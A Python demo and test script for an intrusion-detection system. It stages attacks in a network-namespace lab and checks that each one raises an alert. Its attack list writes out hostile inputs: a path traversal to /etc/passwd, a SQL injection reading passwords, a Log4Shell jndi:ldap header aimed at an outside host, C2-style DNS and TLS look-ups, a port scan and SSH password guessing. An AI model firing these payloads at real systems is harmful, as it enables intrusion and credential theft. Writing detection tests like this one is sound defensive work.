#!/usr/bin/env python3
"""A whole Chiêng on this machine, attacked for real.

    demo.py --build FOLDER --targets FOLDER            shows it, follows the alerts, until Ctrl-C
    demo.py --check --build FOLDER --targets FOLDER    the same unattended: exit 0 only when every planted attack is an
                                                       alert in the API and on the console page and nothing harmless is one

Exit 2: network namespaces are refused here; captures were replayed instead. Everything is taken away at the end.
"""
import argparse, os, pathlib, shutil, signal, subprocess, sys, tempfile, time

ROOT = pathlib.Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tests" / "lib"))
from lab import Agent, LabError, Server, wait_until  # noqa: E402
from office import ATTACKER, CITIZEN, SERVER, Office, Refused  # noqa: E402
import traffic  # noqa: E402

CONTENT = ROOT / "packaging" / "content"
SSH = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5", "-o", "LogLevel=ERROR"]
SCANNED = "import socket\nfor p in range(1000,1150):\n s=socket.socket(); s.settimeout(.02); s.connect_ex(('%s',p)); s.close()" % SERVER


class Attack:
    """What is done, in both languages, and the rule that has to tell of it (a sid, or a Sigma rule's title)."""

    def __init__(self, vi, en, rule, *cmd):
        self.vi, self.en, self.rule, self.cmd = vi, en, rule, cmd


def attacks():
    curl = ("curl", "-s", "-o", "/dev/null", "-m", "10")
    web = f"http://{SERVER}"
    return [
        Attack("Dò đường dẫn tới tệp hệ thống", "Path traversal", 9700001, *curl, "--path-as-is", f"{web}/tai-lieu/../../../etc/passwd"),
        Attack("Chèn lệnh SQL", "SQL injection", 9700004, *curl, f"{web}/tra-cuu?ma=1%27%20UNION%20SELECT%20ten,mat_khau%20FROM%20nguoi_dung--"),
        Attack("Công cụ quét sqlmap", "A scanner's user agent", 9700006, *curl, "-A", "sqlmap/1.7.2#stable (https://sqlmap.org)", f"{web}/"),
        Attack("Chuỗi Log4Shell trong đầu mục", "Log4Shell string in a header", 9700008, *curl, "-H", "X-Api-Version: ${jndi:ldap://203.0.113.66/a}", f"{web}/"),
        Attack("Tra cứu tên miền bị liệt kê", "DNS look-up of a listed domain", 9700201, "dig", "+short", "+tries=1", "+time=2", f"@{SERVER}", "goi-ve.c2.chieng.example"),
        Attack("Kết nối TLS tới tên bị liệt kê", "TLS connection with a listed name", 9700202, "sh", "-c",
               f"echo | openssl s_client -connect {SERVER}:443 -servername tai-ve.c2.chieng.example >/dev/null 2>&1"),
        Attack("Quét cổng", "Port scan", 9700101, sys.executable, "-c", SCANNED),
        Attack("Đăng nhập SSH thất bại", "Failed SSH log-ins", "sshd", "sh", "-c", "for u in admin root quantri; do sshpass -p sai ssh " +
               " ".join(SSH) + f" -o PreferredAuthentications=password -o NumberOfPasswordPrompts=1 $u@{SERVER} true; done"),
    ]


def harmless(office):
    """An ordinary minute of the office: nothing of it may become an alert."""
    web = ("curl", "-s", "-o", "/dev/null", "-m", "10", "--interface", CITIZEN)
    key = office.folder / "user_key"
    for cmd in [
        (*web, f"http://{SERVER}/"), (*web, f"http://{SERVER}/index.html?trang=2&sap_xep=moi"),
        (*web, "-d", "ho_ten=Nguyễn Văn An&noi_dung=Xin cấp lại giấy tờ", f"http://{SERVER}/gui-ho-so"),
        (*web, "-k", f"https://{SERVER}/"), ("dig", "+short", "+tries=1", "+time=2", f"@{SERVER}", "dichvucong.xa.example"),
        (*web, "-A", "Mozilla/5.0 (X11; Linux x86_64)", f"http://{SERVER}/khong-co"),
        ("ssh", *SSH, "-i", key, f"root@{SERVER}", "true"),
    ]:
        office.outside(*cmd)


class Demo:
    def __init__(self, args):
        self.args = args
        self.build = pathlib.Path(args.build)
        self.folder = pathlib.Path(tempfile.mkdtemp(prefix="chieng-demo-"))
        self.office = self.server = self.agent = None

    def start(self):
        # The office sees its attackers under their own addresses: a folder that its users can enter.
        self.folder.chmod(0o755)
        self.say("Dựng văn phòng thử trong các không gian mạng riêng…", "Building the office in network namespaces of its own…")
        (self.folder / "office").mkdir()
        self.office = Office(self.args.targets, self.folder / "office").start()
        self.serve()
        self.watch(f"capture:\n  interfaces: [{self.office.interface}]\nlogs:\n  files:\n    - {{path: \"{self.office.auth_log}\"}}\n  start: beginning\n")

    def serve(self):
        self.say("Khởi động chieng-server…", "Starting chieng-server…")
        self.server = Server(self.build / "server/chieng-server", self.folder / "server").start()
        self.api = self.server.api()
        self.agency = self.server.add_agency("Xã Hòa Bình")

    def watch(self, sources):
        self.say("Ghi danh và khởi động chieng-agent…", "Enrolling and starting chieng-agent…")
        self.agent = Agent(self.build / "agent/chieng-agent", self.folder / "agent", self.server, sources +
                           f"rules:\n  files: [\"{CONTENT / 'rules'}\"]\nsigma:\n  files: [\"{CONTENT / 'sigma'}\"]\n"
                           "vars: {HOME_NET: \"[192.168.50.0/24]\"}\n")
        self.agent.enroll(self.server.enrol_token(self.agency)).start()
        wait_until("the agent to be alive at the server", lambda: any(a["status"] == "alive" for a in self.api.get("/agents")["items"]))

    def stop(self):
        for part in (self.agent, self.server, self.office):
            try:
                if part:
                    part.stop()
            except LabError as error:
                print(error, file=sys.stderr)
        if self.args.keep:
            print("kept:", self.folder)
        else:
            shutil.rmtree(self.folder, ignore_errors=True)

    def say(self, vi, en):
        print(f"· {vi}\n  {en}", flush=True)

    def groups(self):
        return self.api.all("/groups?status=all")

    # -- attended

    def show(self):
        if sys.stdout.isatty() or self.args.print_login:
            login = f"admin / {self.server.first_password()}"
        else:
            login = "see the 0600 file named in server.log"
        print(f"\n  Console: http://127.0.0.1:{self.server.port}/\n  Đăng nhập một lần / one-time login: {login}\n  Ctrl-C: kết thúc / end\n", flush=True)
        seen = {}
        todo = attacks() if self.office else []
        due = time.monotonic() + 3
        while True:
            if todo and time.monotonic() > due:
                attack = todo.pop(0)
                self.say(attack.vi, attack.en)
                self.office.outside(*attack.cmd)
                due = time.monotonic() + 2
            for group in sorted(self.groups(), key=lambda g: g["first"]):
                if seen.get(group["id"]) != group["count"]:
                    seen[group["id"]] = group["count"]
                    source = group["src"].get("ip") or group.get("user") or "–"
                    print(f"  ! {group['last'][11:19]}Z  {group['rule']['message'][:60]:60}  {source} ×{group['count']}", flush=True)
            time.sleep(0.5)

    # -- unattended

    def check(self):
        begin = time.monotonic()
        time.sleep(2)  # capture has begun once the agent is alive; a little for the first health event
        harmless(self.office)
        time.sleep(3)
        faults = [f"harmless became an alert: {g['rule']['message']}" for g in self.groups()]
        planted = attacks()
        for attack in planted:
            self.say(attack.vi, attack.en)
            self.office.outside(*attack.cmd)
        missing = self.await_alerts(planted)
        faults += [f"no alert in the API: {a.en} ({a.rule})" for a in missing]
        allowed = {9700001, 9700002, 9700003, 9700004, 9700005, 9700006, 9700008, 9700101, 9700201, 9700202}
        for group in self.groups():
            if group["rule"]["engine"] == "suricata" and group["rule"].get("sid") not in allowed:
                faults.append(f"an alert that nothing planted explains: {group['rule']['message']}")
            if not group["count"] >= 1 or not group["agency"]["name"]:
                faults.append(f"a group without count or agency: {group}")
        faults += self.alive_and_counting()
        faults += self.explained()
        faults += self.seen_on_page()
        for fault in faults:
            print("FAIL", fault)
        print(f"{len(planted)} attacks, {len(self.groups())} alert groups, {time.monotonic() - begin:.0f} s")
        print("0 passed, 1 failed" if faults else "1 passed, 0 failed")
        return 1 if faults else 0

    def await_alerts(self, planted, seconds=30):
        end = time.monotonic() + seconds
        while True:
            groups = self.groups()
            missing = [a for a in planted if not any(self.tells(g, a) for g in groups)]
            if not missing or time.monotonic() > end:
                return missing
            time.sleep(0.5)

    @staticmethod
    def tells(group, attack):
        if attack.rule == "sshd":
            return group["rule"]["engine"] == "sigma" and group["src"].get("ip") == ATTACKER
        return group["rule"].get("sid") == attack.rule and group["src"].get("ip") == ATTACKER

    def alive_and_counting(self):
        """The agent tells what it saw and which rules it has."""
        def told():
            agent = self.api.get("/agents")["items"][0]
            return agent["counters"]["packets"] > 0 and agent["rules"]["loaded"] > 0 and agent["status"] == "alive"
        try:
            wait_until("packets and rules of the agent at the server", told, 20)
        except LabError as error:
            return [str(error)]
        return []

    def explained(self):
        """Every network alert tells which bytes met which option."""
        out = []
        for group in self.groups():
            events = self.api.get(f"/groups/{group['id']}/events")["items"]
            alert = events[0]["event"].get("alert", {}) if events else {}
            if not alert.get("explain"):
                out.append(f"an alert without explanation: {group['rule']['message']}")
        return out

    def seen_on_page(self):
        script = ROOT / "tests" / "console" / "inbox.mjs"
        rules = ",".join(sorted({str(g["rule"].get("sid") or g["rule"].get("rule_id")) for g in self.groups()}))
        shots = ROOT / "build" / "demo"
        shots.mkdir(parents=True, exist_ok=True)
        done = subprocess.run(["node", str(script), f"http://127.0.0.1:{self.server.port}", rules, str(shots)], capture_output=True, text=True,
                              timeout=180, input=self.server.first_password() + "\n", check=False)
        return [f"the console page: {line}" for line in done.stdout.splitlines() if line.startswith("FAIL")] or \
            ([f"the console page: {done.stderr.strip()[-800:]}"] if done.returncode else [])

    # -- where namespaces are refused

    def replay(self, refused):
        print(f"Không dựng được mạng thử ở bước: {refused.step} ({refused.why}). Phát lại bản ghi thay thế.")
        print(f"The network could not be built; refused was: {refused.step} ({refused.why}). Replaying captures instead.")
        capture = self.folder / "replay.pcap"
        capture.write_bytes(traffic.build((ROOT / "tests" / "data" / "demo" / "traffic.txt").read_text(encoding="utf-8")))
        events = subprocess.run([str(self.build / "agent/chieng-agent"), "scan", "--rules", str(CONTENT / "rules"), "--var", "HOME_NET=[192.168.50.0/24]",
                                 "--set", "eve.types=alert", str(capture), str(ROOT / "tests" / "data" / "demo" / "auth.log"), "--rules", str(CONTENT / "sigma")],
                                capture_output=True, text=True, check=False)
        print(events.stdout)
        return 2 if self.args.check else events.returncode


def become_root():
    """Namespaces need root: through sudo where it asks nothing or somebody is there to answer."""
    if os.geteuid() == 0 or not shutil.which("sudo"):
        return
    asks_nothing = subprocess.run(["sudo", "-n", "true"], capture_output=True, check=False).returncode == 0
    if asks_nothing or sys.stdin.isatty():
        os.execvp("sudo", ["sudo", sys.executable, *sys.argv])


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--build", required=True)
    parser.add_argument("--targets", required=True)
    parser.add_argument("--check", action="store_true")
    parser.add_argument("--keep", action="store_true", help="keep the folder with logs and data")
    parser.add_argument("--print-login", action="store_true", help="print the one-time login even where no terminal is")
    args = parser.parse_args()

    become_root()

    def leave(*_):
        raise KeyboardInterrupt
    signal.signal(signal.SIGTERM, leave)
    demo = Demo(args)
    try:
        demo.start()
        return demo.check() if args.check else demo.show()
    except Refused as refused:
        return demo.replay(refused)
    except KeyboardInterrupt:
        return 0
    except LabError as error:
        print("FAIL", error)
        for part in (demo.server, demo.agent):
            if part and part.process:
                print(f"--- {part.process.name}\n{part.process.text()[-3000:]}")
        print("0 passed, 1 failed")
        return 1
    finally:
        demo.stop()


if __name__ == "__main__":
    sys.exit(main())
